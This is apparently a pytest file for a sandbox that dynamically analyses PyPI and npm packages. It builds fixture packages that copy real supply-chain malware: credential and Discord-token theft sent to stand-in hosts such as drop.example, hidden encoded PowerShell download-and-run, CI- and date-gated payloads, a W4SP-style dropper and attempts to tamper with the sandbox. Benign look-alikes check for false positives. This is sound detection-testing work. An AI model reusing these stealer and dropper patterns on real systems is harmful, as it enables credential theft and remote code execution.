"""Reaching real payloads, in the real sandbox, through the CLI: install fallbacks, the Windows
persona, worlds (CI, clock ahead) — and benign look-alikes of each that stay benign.

TEST FIXTURES, NOT MALWARE: the packages built here reproduce known attack patterns; their
"exfiltration" goes to reserved example names, which only the network simulator answers.
"""

from __future__ import annotations

import base64
import datetime
import json
from pathlib import Path

import pytest

from builders import pypi_sdist
from clirun import run_cli_json
from pkgtrace.sandbox import layout

pytestmark = pytest.mark.sandbox


def _analyze(artifact: Path, results: Path) -> dict:
    return run_cli_json("analyze", "pypi", "--local", str(artifact), "--mode", "dynamic",
                        "--results", str(results), "--timeout", "120")


def _http(section: dict) -> list[dict]:
    return [e for e in section["network"] if e.get("http")]


def _setup(name: str, top: str, init: str = "", extra: dict | None = None) -> dict:
    mod = name.replace("-", "_")
    setup = f"{top}\nfrom setuptools import setup\nsetup(name={name!r}, version='1.0.0', packages=[{mod!r}])\n"
    return {"setup.py": setup, f"{mod}/__init__.py": init, **(extra or {})}


def test_failed_build_still_runs_setup_py_top_level(tmp_path, results):
    # The PEP 517 build dies at `import win32crypt`; the legacy path with stand-ins goes on.
    top = ("import os, json, urllib.request\nimport win32crypt\nfrom Crypto.Cipher import AES\n"
           "key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
           "try:\n    urllib.request.urlopen(urllib.request.Request('http://drop.example/k', "
           "data=json.dumps({'k': key}).encode()), timeout=5)\nexcept Exception:\n    pass\n")
    docs = _analyze(pypi_sdist(tmp_path, "fb-exfil", "1.0.0", _setup("fb-exfil", top, "import win32api\n")),
                    results)
    dyn = docs["report"]["dynamic"]
    install = dyn["phases"]["install"]
    fb = install["fallback"]
    assert fb["kind"] == "legacy-setup" and fb["why"].startswith("pip install exited")
    assert [a["kind"] for a in fb["attempts"]] == ["pip-no-deps", "imports", "legacy-setup"]
    # pycryptodome is a real library (installed), win32crypt exists only on Windows (stood in)
    assert fb["attempts"][1]["packages"] == ["pycryptodome"] and fb["attempts"][1]["exit_code"] == 0
    legacy = fb["attempts"][-1]
    assert "win32crypt" in legacy["standins"] and "Crypto" not in legacy["standins"]
    assert "fallback: legacy-setup" in install["reason"]
    posts = [e for e in _http(install) if e["http"]["target"] == "/k"]
    assert posts and posts[0]["hostname"] == "drop.example"
    # import and execute ran the unpacked source, its own missing import stood in for
    assert dyn["phases"]["import"]["status"] == "completed"
    assert "win32api" in dyn["phases"]["import"]["standins"]
    v = docs["report"]["verdict"]
    assert v["label"] == "malicious" and {"DYN-BAIT-READ", "DYN-BAIT-SENT"} <= set(v["rules_fired"])


def test_windows_stealer_reads_discord_tokens_and_runs_encoded_powershell(tmp_path, results):
    script = "Invoke-WebRequest -Uri http://cdn.example/p.exe -OutFile $env:TEMP\\p.exe"
    enc = base64.b64encode(script.encode("utf-16-le")).decode()
    init = ("import os, re, subprocess, urllib.request\n"
            "root = os.getenv('APPDATA') + '\\\\discord\\\\Local Storage\\\\leveldb'\n"
            "tokens = []\n"
            "for f in os.listdir(root):\n"
            "    if f.endswith(('.log', '.ldb')):\n"
            "        data = open(root + '\\\\' + f, errors='ignore').read()\n"
            "        tokens += re.findall(r'[\\w-]{24,26}\\.[\\w-]{6}\\.[\\w-]{25,110}', data)\n"
            "try:\n    urllib.request.urlopen('http://hook.example/t?u=' + os.getenv('USERNAME') + '&t=' + ','.join(tokens), timeout=5)\n"
            "except Exception:\n    pass\n"
            f"subprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand {enc}', shell=False,\n"
            "                 creationflags=subprocess.CREATE_NO_WINDOW).wait()\n")
    docs = _analyze(pypi_sdist(tmp_path, "winsteal", "1.0.0", _setup("winsteal", "", init)), results)
    dyn = docs["report"]["dynamic"]
    imp = dyn["phases"]["import"]
    bait = {v["what"]: v["value"] for v in dyn["bait"]["values"]}
    ps = [c for c in imp["commands"] if c["argv"] and c["argv"][0] == "powershell"]
    assert ps and ps[0]["argv"][1:4] == ["-WindowStyle", "Hidden", "-EncodedCommand"]
    assert ps[0]["decoded"] == script
    sent = [e for e in _http(imp) if e["hostname"] == "hook.example"]
    assert sent and bait["discord_token"] in sent[0]["http"]["target"]
    v = docs["report"]["verdict"]
    assert v["label"] == "malicious"
    assert {"DYN-BAIT-READ", "DYN-BAIT-SENT", "DYN-WINDOWS-TOOL", "DYN-POWERSHELL-ENCODED",
            "DYN-WINDOWS-PERSISTENCE-ENCODED"} <= set(v["rules_fired"])


def test_ci_gated_and_date_gated_payloads_fire_in_their_world_only(tmp_path, results):
    # the date is a fortnight ahead of the build, so the test stays valid whenever it runs
    gate = (datetime.date.today() + datetime.timedelta(days=14)).isoformat()
    init = ("import os, json, time, datetime, urllib.request\n"
            "def _send(what):\n"
            "    try:\n        urllib.request.urlopen(urllib.request.Request('http://gate.example/' + what, "
            "data=json.dumps(dict(os.environ)).encode()), timeout=5)\n"
            "    except Exception:\n        pass\n"
            "if os.getenv('GITHUB_ACTIONS') == 'true':\n    _send('ci')\n"
            "t0 = time.time()\ntime.sleep(30)\n"  # in a world with the clock ahead: 2 s
            "if time.time() - t0 >= 30 and datetime.date.today().isoformat() > "
            f"{gate!r}:\n    _send('later')\n")
    docs = _analyze(pypi_sdist(tmp_path, "gated", "1.0.0", _setup("gated", "", init)), results)
    dyn = docs["report"]["dynamic"]
    base_targets = {e["http"]["target"] for p in dyn["phases"].values() for e in _http(p)}
    assert "/ci" not in base_targets and "/later" not in base_targets
    worlds = dyn["worlds"]
    assert set(worlds) == {"ci", "later"}
    ci, later = worlds["ci"], worlds["later"]
    assert "/ci" in {e["http"]["target"] for e in _http(ci["phases"]["import"])}
    assert "/later" not in {e["http"]["target"] for e in _http(ci["phases"]["import"])}
    assert "/later" in {e["http"]["target"] for e in _http(later["phases"]["import"])}
    assert later["clock_shift_days"] >= 14 and later["phases"]["import"]["status"] == "completed"
    assert any("gate.example/ci" in h for h in ci["differences"]["import"]["http"])
    assert any("gate.example/later" in h for h in later["differences"]["import"]["http"])
    v = docs["report"]["verdict"]
    assert v["label"] == "malicious"
    worlds_seen = {f["evidence"].get("world") for f in v["findings"] if f["source"] == "dynamic"}
    assert {"ci", "later"} <= worlds_seen


def test_benign_lookalikes_stay_benign(tmp_path, results):
    # An SDK reading its own credentials when called, a cache folder made private, a CI check
    # that only prints, a date check, a Windows branch behind os.name: nothing sent anywhere.
    init = ("import os, sys, datetime, configparser, tempfile\n"
            "IN_CI = bool(os.getenv('CI'))\n"
            "if os.name == 'nt':\n    import subprocess\n    subprocess.call(['cmd', '/c', 'ver'])\n"
            "def credentials(profile='default'):\n"
            "    c = configparser.ConfigParser()\n"
            "    c.read(os.path.expanduser('~/.aws/credentials'))\n"
            "    return c.has_section(profile)\n"
            "def cache_dir():\n"
            "    d = os.path.join(tempfile.gettempdir(), '_lookalike-cache-%d' % os.getuid())\n"
            "    os.makedirs(d, exist_ok=True)\n    os.chmod(d, 0o700)\n    return d\n"
            "def expired():\n    return datetime.date.today() > datetime.date(2020, 1, 1)\n")
    docs = _analyze(pypi_sdist(tmp_path, "lookalike", "1.0.0", _setup("lookalike", "", init)), results)
    dyn = docs["report"]["dynamic"]
    execute = dyn["phases"]["execute"]
    assert f"{layout.HOME}/.aws/credentials" in {f["path"] for f in execute["files"] if f["read"]}
    assert any(e["op"] == "chmod" and e["path"].startswith("/tmp/_lookalike-cache") for e in execute["file_events"])
    assert "ci" in dyn.get("worlds", {})
    v = docs["report"]["verdict"]
    assert v["label"] == "benign", json.dumps(v["findings"], indent=1)[:3000]
    assert "DYN-DROP-EXECUTABLE" not in v["rules_fired"] and "DYN-BAIT-READ" not in v["rules_fired"]


def test_npm_lifecycle_scripts_run_when_a_dependency_cannot_be_installed(tmp_path, results):
    from builders import npm_tgz
    pkg = {"name": "npm-fallback-fixture", "version": "1.0.0", "main": "index.js",
           "dependencies": {"pkgtrace-no-such-package-4f1c9a": "^9.9.9"},
           "scripts": {"postinstall": "node collect.js"}}
    collect = ("const http = require('http');\n"
               "const body = JSON.stringify({env: process.env});\n"
               "const r = http.request({host: 'npm-drop.example', path: '/p', method: 'POST'}, () => {});\n"
               "r.on('error', () => {}); r.end(body);\n")
    tgz = npm_tgz(tmp_path, {"package.json": json.dumps(pkg), "collect.js": collect,
                             "index.js": "module.exports = () => 1;\n"})
    docs = run_cli_json("analyze", "npm", "--local", str(tgz), "--mode", "dynamic",
                        "--results", str(results), "--timeout", "120")
    install = docs["report"]["dynamic"]["phases"]["install"]
    fb = install["fallback"]
    assert fb["kind"] == "lifecycle-scripts" and fb["why"].startswith("npm install exited")
    assert [a.get("event") for a in fb["attempts"] if a["kind"] == "lifecycle"] == ["postinstall"]
    assert any(e["http"]["target"] == "/p" and e["hostname"] == "npm-drop.example" for e in _http(install))
    v = docs["report"]["verdict"]
    assert v["label"] == "malicious" and "DYN-ENV-IN-PAYLOAD" in v["rules_fired"]


def test_installed_module_dying_at_windows_imports_is_imported_again_with_standins(tmp_path, results):
    # pip installs it; its import dies at `import winreg`, and it uses an undeclared `requests`
    init = ("import os, winreg, win32crypt\n"
            "if os.name == 'nt':\n"
            "    key = open(os.path.expanduser('~/.aws/credentials')).read()\n"
            "    __import__('requests').post('http://nt-only.example/c', data=key, timeout=5)\n")
    docs = _analyze(pypi_sdist(tmp_path, "ntgate", "1.0.0", _setup("ntgate", "", init)), results)
    dyn = docs["report"]["dynamic"]
    assert "fallback" not in dyn["phases"]["install"]          # pip installed it
    assert dyn["phases"]["install"]["imports"]["packages"] == ["requests"]
    imp = dyn["phases"]["import"]
    assert imp["retried_with_standins"] == ["ntgate"]
    assert {"winreg", "win32crypt"} <= set(imp["standins"]) and imp["windows_checks"] >= 1
    assert any(e["hostname"] == "nt-only.example" for e in _http(imp))
    v = docs["report"]["verdict"]
    assert v["label"] == "malicious" and "DYN-BAIT-READ" in v["rules_fired"]


def test_setup_py_payload_waiting_for_windows_runs_after_a_working_install(tmp_path, results):
    # pip installs it on Linux and nothing happens; answered as Windows, its setup.py sends
    top = ("import sys, urllib.request\n"
           "if sys.platform == ''.join(map(chr, [119, 105, 110, 51, 50])):\n"  # 'win32', computed
           "    try:\n        urllib.request.urlopen('http://win-setup.example/i', timeout=5)\n"
           "    except Exception:\n        pass\n")
    docs = _analyze(pypi_sdist(tmp_path, "wingated", "1.0.0", _setup("wingated", top)), results)
    install = docs["report"]["dynamic"]["phases"]["install"]
    assert "fallback" not in install
    ws = install["windows_setup"]
    assert ws["kind"] == "legacy-setup" and ws["windows_checks"] >= 1
    assert any(e["hostname"] == "win-setup.example" for e in _http(install))
    assert docs["report"]["verdict"]["label"] == "malicious"


def test_benign_setup_py_with_a_windows_branch_stays_benign(tmp_path, results):
    top = ("import os, sys\nrequires = ['pywin32'] if sys.platform == 'win32' else []\n"
           "if os.name == 'nt':\n    import subprocess\n    print('windows build')\n")
    docs = _analyze(pypi_sdist(tmp_path, "winbranch", "1.0.0", _setup("winbranch", top)), results)
    v = docs["report"]["verdict"]
    assert v["label"] == "benign", v["findings"]


def test_fallback_package_cannot_forge_its_state_or_replace_the_persona(tmp_path, results):
    # The same failing build, written by someone who has read pkgtrace: in every run of its
    # setup.py (pip's build, the legacy fallback) it tries to forge the fallback state and the
    # install record, replace a Windows stand-in, the persona's sitecustomize and pyworld.py, and
    # reports what it got to a collector. All of that is root's now; the fallback still runs.
    targets = {"state": f"{layout.RECORDS}/fallback.json", "record": f"{layout.RECORDS}/install.json",
               "tool": f"{layout.WINTOOLS}/powershell", "sitecustomize": "/etc/python3.11/sitecustomize.py",
               "pyworld": f"{layout.WORKERS}/pyworld.py"}
    top = ("import json, os, urllib.request\nres = {'uid': os.getuid()}\n"
           f"for name, path in {targets!r}.items():\n"
           "    try:\n        open(path, 'w').write('{\"kind\": \"none\", \"reason\": \"forged\"}')\n"
           "        res[name] = 'ok'\n"
           "    except Exception as e:\n        res[name] = type(e).__name__\n"
           "try:\n    urllib.request.urlopen(urllib.request.Request('http://collector.example/forge', "
           "data=json.dumps(res).encode(), method='POST'), timeout=5)\nexcept Exception:\n    pass\n"
           "import win32crypt\n")
    docs = _analyze(pypi_sdist(tmp_path, "fb-forge", "1.0.0", _setup("fb-forge", top)), results)
    install = docs["report"]["dynamic"]["phases"]["install"]
    reports = [json.loads(base64.b64decode(e["http"]["body_b64"])) for e in _http(install)
               if e["http"]["target"] == "/forge"]
    assert len(reports) >= 2, "both the pip build and the legacy run should have reported"
    for seen in reports:
        assert seen["uid"] == layout.UID
        assert all(seen[name] in ("PermissionError", "OSError") for name in targets), seen
    fb = install["fallback"]
    assert fb["kind"] == "legacy-setup" and "forged" not in install["reason"]
    assert "win32crypt" in fb["attempts"][-1]["standins"]
    assert docs["report"]["dynamic"]["phases"]["import"]["status"] == "completed"


def test_installed_module_waiting_for_windows_runs_in_the_windows_world(tmp_path, results):
    # pip installs it and its import does nothing on Linux; told it runs on Windows it writes its
    # next stage to %TMP% and runs it with a hidden powershell, after asking ctypes for elevation
    init = ("import os, sys, subprocess, ctypes\n"
            "if sys.platform.startswith('win') and ctypes.windll.shell32.IsUserAnAdmin():\n"
            "    put = os.getenv('TMP') + '\\\\ab.ps1'\n"
            "    with open(put, 'w') as f:\n"
            "        f.write('Invoke-Expression (New-Object Net.WebClient).DownloadString(\"http://ps.example/s\")')\n"
            "    subprocess.Popen(['powershell.exe', '-NoProfile', '-ExecutionPolicy', 'Bypass',\n"
            "                      '-WindowStyle', 'Hidden', '-File', put],\n"
            "                     creationflags=subprocess.CREATE_NO_WINDOW).wait()\n")
    docs = _analyze(pypi_sdist(tmp_path, "winimport", "1.0.0", _setup("winimport", "", init)), results)
    dyn = docs["report"]["dynamic"]
    assert "fallback" not in dyn["phases"]["install"]
    assert not [c for c in dyn["phases"]["import"]["commands"] if c["argv"] and c["argv"][0] == "powershell.exe"]
    win = dyn["worlds"]["windows"]
    assert win["platform"] == "windows" and "windll" in win["phases"]["import"]["standins"]
    ps = [c for c in win["phases"]["import"]["commands"] if c["argv"] and c["argv"][0] == "powershell.exe"]
    assert ps and ps[0]["argv"][-1].endswith("\\ab.ps1") and "/AppData/Local/Temp" in ps[0]["argv"][-1]
    assert any(c.startswith("powershell.exe") for c in win["differences"]["import"]["commands"])
    v = docs["report"]["verdict"]
    hidden = [f for f in v["findings"] if f["rule"] == "DYN-POWERSHELL-HIDDEN"]
    assert hidden and hidden[0]["evidence"]["world"] == "windows"
    assert v["label"] in ("malicious", "suspicious"), v["findings"]


def test_installed_module_with_a_benign_windows_branch_stays_benign(tmp_path, results):
    # colorama-style console set-up and a `cmd /c ver` behind a platform check, and a helper that
    # runs commands when called: run in the windows world, and nothing it does is a finding
    init = ("import os, sys, subprocess\n"
            "if sys.platform == 'win32':\n"
            "    import ctypes, winreg\n"
            "    k = ctypes.windll.kernel32\n"
            "    k.SetConsoleMode(k.GetStdHandle(-11), 7)\n"
            "    VERSION = subprocess.run(['cmd', '/c', 'ver'], capture_output=True).stdout\n"
            "    CONFIG = os.path.join(os.getenv('LOCALAPPDATA', ''), 'winbenign')\n"
            "else:\n"
            "    CONFIG = os.path.expanduser('~/.config/winbenign')\n"
            "def run(argv):\n    return subprocess.run(argv, capture_output=True)\n")
    docs = _analyze(pypi_sdist(tmp_path, "winbenign", "1.0.0", _setup("winbenign", "", init)), results)
    win = docs["report"]["dynamic"]["worlds"]["windows"]
    assert any(c["argv"][:3] == ["cmd", "/c", "ver"] for c in win["phases"]["import"]["commands"])
    v = docs["report"]["verdict"]
    assert v["label"] == "benign", v["findings"]


def test_dropper_that_starts_the_script_it_wrote_is_followed_into_its_next_stage(tmp_path, results):
    # the W4SP shape: a temporary file holding the next stage, `start`ed as on Windows
    init = ("from tempfile import NamedTemporaryFile as _f\nfrom sys import executable as _e\n"
            "from os import system as _s\n"
            "_t = _f(delete=False, suffix='.py')\n"
            "_t.write(b\"import urllib.request\\ntry:\\n    urllib.request.urlopen('http://stage2.example/p', timeout=5)\\n"
            "except Exception:\\n    pass\\n\")\n"
            "_t.close()\n_s(f'start {_e} {_t.name}')\n")
    docs = _analyze(pypi_sdist(tmp_path, "startdrop", "1.0.0", _setup("startdrop", "", init)), results)
    imp = docs["report"]["dynamic"]["phases"]["import"]
    assert any(e["hostname"] == "stage2.example" for e in _http(imp))
    v = docs["report"]["verdict"]
    assert v["label"] == "malicious" and "DYN-HTTP-REQUEST" in v["rules_fired"], v["findings"]
